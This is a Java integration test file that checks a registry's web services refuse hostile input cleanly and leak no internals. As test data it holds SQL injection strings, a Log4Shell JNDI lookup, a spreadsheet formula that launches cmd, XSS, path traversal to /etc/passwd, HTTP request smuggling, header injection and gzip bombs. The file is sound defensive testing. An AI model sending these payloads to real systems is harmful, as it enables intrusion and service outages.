package vn.banggiao.acceptance;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.junit.jupiter.api.Assertions.assertAll;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.HashMap;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.UUID;
import java.util.regex.Pattern;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.extension.ExtendWith;
import vn.banggiao.acceptance.Calls.Answer;
import vn.banggiao.acceptance.RawHttp.Reply;
import vn.banggiao.local.Service;

/** Whatever is sent to hurt is refused cleanly, says nothing of what is inside, and the same process goes on serving. */
@ExtendWith(WithRegistry.class)
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
class HostileInputIT {

    private static final Pattern INSIDE = Pattern.compile(
            "exception|\\bat [a-z]+\\.|vn\\.banggiao|jackson|hibernate|postgres|psql|io\\.vertx|java\\.|sqlstate|select |insert ",
            Pattern.CASE_INSENSITIVE);

    /** Where each service takes records. */
    private static final Map<Service, String> TAKES = Map.of(
            Service.BORDER_INCIDENTS, "/api/v1/incidents",
            Service.CITIZEN_PROTECTION, "/api/v1/cases",
            Service.DELEGATIONS, "/api/v1/delegations",
            Service.NGO_PROJECTS, "/api/v1/projects",
            Service.REPORTING, "/api/v1/returns");

    private final Map<Service, Operation> records = new HashMap<>();
    private final Map<Service, String> processes = new HashMap<>();
    private final RunningRegistry registry;
    private final Calls calls;
    private final String token;

    HostileInputIT(RunningRegistry registry) {
        this.registry = registry;
        this.calls = new Calls(registry.stack().addresses());
        this.token = registry.stack().issuer().token("system", "*");
    }

    @BeforeAll
    void prepare() {
        TAKES.forEach((service, path) -> {
            JsonNode document =
                    calls.get(null, service, "/q/openapi?format=json").json();
            Operation.of(service, document).stream()
                    .filter(each -> each.method().equals("POST") && each.path().equals(path))
                    .forEach(each -> records.put(service, each));
            processes.put(service, startOf(service));
        });
        OwnUnit.importInto(registry);
        TAKES.forEach((service, path) -> RunningRegistry.post(
                registry.as("system", "*"), service, path, example(service).toString()));
    }

    /** None has died meanwhile, not for want of memory either: a service ends itself when it has none left. */
    @AfterEach
    void theSameProcessesServeAsBefore() {
        TAKES.forEach((service, path) -> {
            assertEquals(200, calls.get(token, service, path + "?limit=1").status(), service::code);
            assertEquals(processes.get(service), startOf(service), service::code);
        });
    }

    @TestFactory
    Stream<DynamicTest> refusesBodiesThatAreNoneOrTooMuch() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("10 MB of nested arrays", repeat("[", 10_000_000));
        bodies.put("1 MB of nested arrays", repeat("[", 1_000_000));
        bodies.put("nested objects", repeat("{\"note\":", 100_000));
        bodies.put("nothing", new byte[0]);
        bodies.put("null", "null".getBytes(UTF_8));
        bodies.put("two objects", "{}{}".getBytes(UTF_8));
        bodies.put("a type for the parser", "{\"@class\":\"java.net.URL\"}".getBytes(UTF_8));
        bodies.put("a byte that is no UTF-8", "{\"note\":\"\u00ff\u00fe\"}".getBytes(ISO_8859_1));
        bodies.put("an overlong slash", "{\"note\":\"\u00c0\u00af\"}".getBytes(ISO_8859_1));
        bodies.put("UTF-32 beyond Unicode", new byte[] {0, 0, 0, '{', 127, -1, -1, -1, 0, 0, 0, '}'});
        bodies.put("a NUL", "{\"note\":\"a\\u0000b\"}".getBytes(UTF_8));
        bodies.put("half a surrogate pair", "{\"note\":\"a\\ud800b\"}".getBytes(UTF_8));
        bodies.put("a field twice", "{\"unit\":\"96.960\",\"unit\":\"11\"}".getBytes(UTF_8));
        bodies.put("a name of 1 MB", ("{\"" + "n".repeat(1_000_000) + "\":1}").getBytes(UTF_8));
        bodies.put("text of 10 MB", ("{\"note\":\"" + "x".repeat(10_000_000) + "\"}").getBytes(UTF_8));
        return TAKES.keySet().stream().flatMap(service -> bodies.entrySet().stream()
                .map(body -> DynamicTest.dynamicTest(
                        service + ": " + body.getKey(),
                        () -> assertRefused(post(service, "", "application/json", body.getValue())))));
    }

    @TestFactory
    Stream<DynamicTest> refusesNumbersThatNobodyCanCount() {
        List<String> numbers = List.of("1e999", "-1e999", "1e99999999", "9".repeat(1_000), "NaN", "0x10", "1_000");
        return TAKES.keySet().stream()
                .flatMap(service -> numberFields(records.get(service)).stream().flatMap(field -> numbers.stream()
                        .map(number -> DynamicTest.dynamicTest(
                                service + ": " + field + " of " + number.substring(0, Math.min(12, number.length())),
                                () -> assertRefused(
                                        post(service, "", "application/json", with(service, field, number)))))));
    }

    @TestFactory
    Stream<DynamicTest> refusesGzipThatIsABombOrNone() {
        Map<String, byte[]> bodies = new LinkedHashMap<>();
        bodies.put("500 MB of blanks", zipped(" ", 500_000_000));
        bodies.put("500 MB of empty lines", zipped("\n", 500_000_000));
        bodies.put("no gzip", "{}\n".getBytes(UTF_8));
        bodies.put("gzip that breaks off", Arrays.copyOf(zipped("{}\n", 3_000), 20));
        return TAKES.keySet().stream().flatMap(service -> bodies.entrySet().stream()
                .map(body -> DynamicTest.dynamicTest(
                        service + ": " + body.getKey(),
                        () -> assertRefused(post(
                                service,
                                "/batch",
                                "application/x-ndjson\r\nContent-Encoding: gzip",
                                body.getValue())))));
    }

    /** What came whole is kept and answered; the last line says that there was more. */
    @Test
    void saysWhereABatchThatIsTooLongWasCut() {
        byte[] body = zipped("{}\n", 60_000);
        Reply reply = post(Service.BORDER_INCIDENTS, "/batch", "application/x-ndjson\r\nContent-Encoding: gzip", body);
        assertEquals(200, reply.status());
        assertTrue(reply.body().contains("{\"line\":10000,\"status\":400"), "every line has an answer");
        assertTrue(reply.body().contains("{\"line\":10001,\"status\":413"), "the rest is refused");
    }

    @TestFactory
    Stream<DynamicTest> letsNobodyInByAnOddPath() {
        List<String> odd = List.of(
                "/api/v1/incidents/..%2f",
                "/api/v1/incidents/../../../etc/passwd",
                "/api/v1/incidents/%2e%2e/units",
                "//api/v1/incidents",
                "/api/v1//incidents",
                "/api/v1/incidents;role=system",
                "/api/v1/;/incidents",
                "/api/v1/incidents%00",
                "/api/v1/incidents/%00",
                "/api/v1/incidents/%c0%ae%c0%ae",
                "/api/v1/incidents/%zz",
                "/api/v1/incidents?unit=%",
                "/api/v1/incidents?unit=%ff",
                "/api/v1/incidents\\..\\incidents",
                "/q/../api/v1/incidents",
                "/q/openapi/../../api/v1/incidents",
                "http://127.0.0.1/api/v1/incidents",
                "/API/V1/INCIDENTS",
                "/api/v1/incidents?" + "x".repeat(10_000));
        return odd.stream()
                .map(path -> DynamicTest.dynamicTest(
                        path.substring(0, Math.min(60, path.length())),
                        () -> assertRefused(RawHttp.send(border(), RawHttp.head("GET " + path, null) + "\r\n"))));
    }

    @TestFactory
    Stream<DynamicTest> refusesRequestsThatAreTwoOrHalf() {
        String post = RawHttp.head("POST /api/v1/incidents", token) + "Content-Type: application/json\r\n";
        String get = RawHttp.head("GET /api/v1/incidents?limit=1", token);
        Map<String, String> requests = new LinkedHashMap<>();
        requests.put("two lengths", post + "Content-Length: 2\r\nContent-Length: 3\r\n\r\n{}x");
        requests.put("a negative length", post + "Content-Length: -5\r\n\r\n{}");
        requests.put("a length and chunks", post + "Content-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
        requests.put("a bare CR in a header", get + "X-One: a\rX-Two: b\r\n\r\n");
        requests.put("a NUL in a header", get + "X-One: a\u0000b\r\n\r\n");
        requests.put("a header of 20 kB", get + "X-One: " + "a".repeat(20_000) + "\r\n\r\n");
        requests.put("3,000 headers", get + "X-One: a\r\n".repeat(3_000) + "\r\n");
        requests.put("a blank before the colon", get + "X-One : a\r\n\r\n");
        requests.put("no HTTP", "GET /\r\n\r\n");
        requests.put("a method that is none", RawHttp.head("FETCH /api/v1/incidents", token) + "\r\n");
        requests.put("TRACE", RawHttp.head("TRACE /api/v1/incidents", token) + "\r\n");
        requests.put(
                "a header in the address",
                RawHttp.head("GET /api/v1/incidents?unit=%0d%0aX-Evil:%20yes", token) + "\r\n");
        requests.put(
                "30 MB of chunks without an end",
                post + "Transfer-Encoding: chunked\r\n\r\na\r\n{\"note\": \"\r\n"
                        + ("100000\r\n" + "x".repeat(0x100000) + "\r\n").repeat(30));
        return requests.entrySet().stream()
                .map(each -> DynamicTest.dynamicTest(each.getKey(), () -> {
                    Reply reply = RawHttp.send(border(), each.getValue());
                    assertRefused(reply);
                    assertFalse(reply.head().contains("x-evil"), reply::head);
                }));
    }

    /** HSTS over TLS alone, which this is not. */
    @Test
    void saysInEveryAnswerWhatABrowserMayDoWithIt() {
        TAKES.forEach((service, path) -> Stream.of(
                        calls.get(token, service, path + "?limit=1"),
                        calls.get(null, service, path),
                        calls.get(token, service, "/nowhere"),
                        calls.get(null, service, "/q/health"))
                .map(answer -> answer.response().headers())
                .forEach(headers -> assertAll(
                        service.code(),
                        () -> assertEquals(
                                "nosniff",
                                headers.firstValue("X-Content-Type-Options").orElse("")),
                        () -> assertEquals(
                                "no-store", headers.firstValue("Cache-Control").orElse("")),
                        () -> assertEquals(
                                "default-src 'none'; frame-ancestors 'none'",
                                headers.firstValue("Content-Security-Policy").orElse("")),
                        () -> assertEquals(
                                "no-referrer",
                                headers.firstValue("Referrer-Policy").orElse("")),
                        () -> assertTrue(
                                headers.firstValue("Strict-Transport-Security").isEmpty()),
                        () -> assertTrue(headers.firstValue("Server").isEmpty()))));
    }

    @Test
    void closesAChunkThatIsNoneWithoutAWord() {
        String head = RawHttp.head("POST /api/v1/incidents", token)
                + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\nzz\r\n{}\r\n";
        Reply reply = RawHttp.send(border(), head);
        assertTrue(reply.status() == 0 || reply.status() == 400, reply::toString);
        assertFalse(INSIDE.matcher(reply.body()).find(), reply::body);
    }

    /** {@link RunningRegistry} gives a body ten seconds. */
    @Test
    void refusesABodyThatDribbles() {
        String head = RawHttp.head("POST /api/v1/incidents", token) + "Content-Type: application/json\r\n";
        assertAll(
                () -> assertEquals(
                        408,
                        RawHttp.send(border(), head + "Content-Length: 100\r\n\r\n{")
                                .status()),
                () -> assertEquals(
                        408,
                        RawHttp.send(border(), head + "Transfer-Encoding: chunked\r\n\r\n1\r\n{\r\n")
                                .status()));
    }

    /** It is text and nothing else: what comes back is what was sent, in every field that takes text at all. */
    @TestFactory
    Stream<DynamicTest> keepsTextThatWouldBeCommandsElsewhere() {
        List<String> texts = List.of(
                "'; drop table incident; --",
                "\" or \"\"=\"",
                "=HYPERLINK(\"http://example.com\",\"x\")",
                "@SUM(1+1)*cmd|' /C calc'!A0",
                "+84 123",
                "-2+3",
                "<script>alert(1)</script>",
                "${jndi:ldap://example.com/a}",
                "%s%n \\u0027 \\x00 {{7*7}}",
                "a\tb\nc");
        return TAKES.keySet().stream().flatMap(service -> texts.stream()
                .map(text -> DynamicTest.dynamicTest(
                        service + ": " + text, () -> assertTrue(keeps(service, text) > 0, "no field takes text"))));
    }

    @Test
    void takesTextInFiltersForTextToo() {
        TAKES.forEach((service, path) -> Stream.of("unit", "kind", "country", "indicator", "state")
                .forEach(field -> {
                    Answer answer = calls.get(token, service, path + "?limit=1&" + field + "=%27%20or%201%3D1%20--%20");
                    assertTrue(answer.status() == 200 || answer.status() == 400, answer::toString);
                    assertFalse(INSIDE.matcher(answer.body()).find(), answer::toString);
                }));
        Answer none = calls.get(token, Service.BORDER_INCIDENTS, "/api/v1/incidents?unit=%27%20or%201%3D1%20--%20");
        assertEquals("{\"items\":[]}", none.body());
    }

    /** How many fields kept the text. One that takes no text must say so by its name. */
    private int keeps(Service service, String text) {
        int kept = 0;
        for (String field : textFields(records.get(service))) {
            ObjectNode body = example(service);
            body.put(field, text);
            Answer answer = calls.send(token, service, "POST", TAKES.get(service), "application/json", body.toString());
            if (answer.status() == 201) {
                assertEquals(text, answer.json().path(field).asText(), () -> service + " " + field);
                String again =
                        TAKES.get(service) + "/" + answer.json().path("id").asText();
                assertEquals(
                        text,
                        calls.get(token, service, again).json().path(field).asText(),
                        () -> service + " " + field);
                kept++;
            } else {
                assertEquals(400, answer.status(), () -> field + ": " + answer);
                assertTrue(answer.body().contains("\"field\":\"" + field), () -> field + ": " + answer);
                assertFalse(INSIDE.matcher(answer.body().replace(text, "")).find(), answer::toString);
            }
        }
        return kept;
    }

    private ObjectNode example(Service service) {
        ObjectNode body = records.get(service).example().deepCopy();
        body.put("unit", OwnUnit.UNIT);
        UUID id = UUID.randomUUID();
        body.put("id", id.toString());
        if (body.has("code")) {
            body.put("code", "P" + id.toString().substring(0, 8).toUpperCase(Locale.ROOT)); // one project, one code
        }
        return body;
    }

    private static List<String> textFields(Operation operation) {
        List<String> fields = new ArrayList<>();
        operation.example().fields().forEachRemaining(field -> {
            if (field.getValue().isTextual() && !List.of("id", "unit").contains(field.getKey())) {
                fields.add(field.getKey());
            }
        });
        if (!fields.contains("note") && !operation.path().endsWith("/returns")) {
            fields.add("note");
        }
        return fields;
    }

    private static List<String> numberFields(Operation operation) {
        List<String> fields = new ArrayList<>();
        operation.example().fields().forEachRemaining(field -> {
            if (field.getValue().isNumber()) {
                fields.add(field.getKey());
            }
        });
        return fields;
    }

    private byte[] with(Service service, String field, String number) {
        ObjectNode body = example(service);
        body.put(field, "NUMBER");
        return body.toString().replace("\"NUMBER\"", number).getBytes(UTF_8);
    }

    private Reply post(Service service, String below, String type, byte[] body) {
        String head = RawHttp.head("POST " + TAKES.get(service) + below, token) + "Content-Type: " + type
                + "\r\nContent-Length: " + body.length + "\r\n\r\n";
        return RawHttp.send(registry.stack().addresses().of(service), head, body);
    }

    private URI border() {
        return registry.stack().addresses().of(Service.BORDER_INCIDENTS);
    }

    private String startOf(Service service) {
        return Arrays.stream(calls.get(null, service, "/q/metrics").body().split("\n"))
                .filter(line -> line.startsWith("process_start_time_seconds"))
                .findFirst()
                .orElseThrow();
    }

    /** Refused with a problem that tells nothing of what is inside, or, where it is no HTTP that can be answered, with a bare 4xx. */
    private static void assertRefused(Reply reply) {
        assertTrue(reply.status() >= 400 && reply.status() < 500, reply::toString);
        assertFalse(INSIDE.matcher(reply.body()).find(), reply::body);
        assertFalse(reply.head().contains("\r\nserver:"), reply::head);
        if (!reply.body().isEmpty()) {
            assertTrue(reply.head().contains("content-type: application/problem+json"), reply::head);
            assertTrue(reply.head().contains("x-content-type-options: nosniff"), reply::head);
            assertTrue(reply.head().contains("content-security-policy: default-src 'none'"), reply::head);
            assertTrue(reply.body().contains("\"type\":\"urn:banggiao:problem:"), reply::body);
        }
    }

    private static byte[] repeat(String text, int times) {
        return text.repeat(times).getBytes(UTF_8);
    }

    private static byte[] zipped(String text, int bytes) {
        byte[] piece = text.repeat(100_000 / text.length()).getBytes(UTF_8);
        ByteArrayOutputStream zipped = new ByteArrayOutputStream();
        try (GZIPOutputStream output = new GZIPOutputStream(zipped)) {
            for (int written = 0; written < bytes; written += piece.length) {
                output.write(piece, 0, Math.min(piece.length, bytes - written));
            }
        } catch (IOException e) {
            throw new IllegalStateException(e);
        }
        return zipped.toByteArray();
    }
}
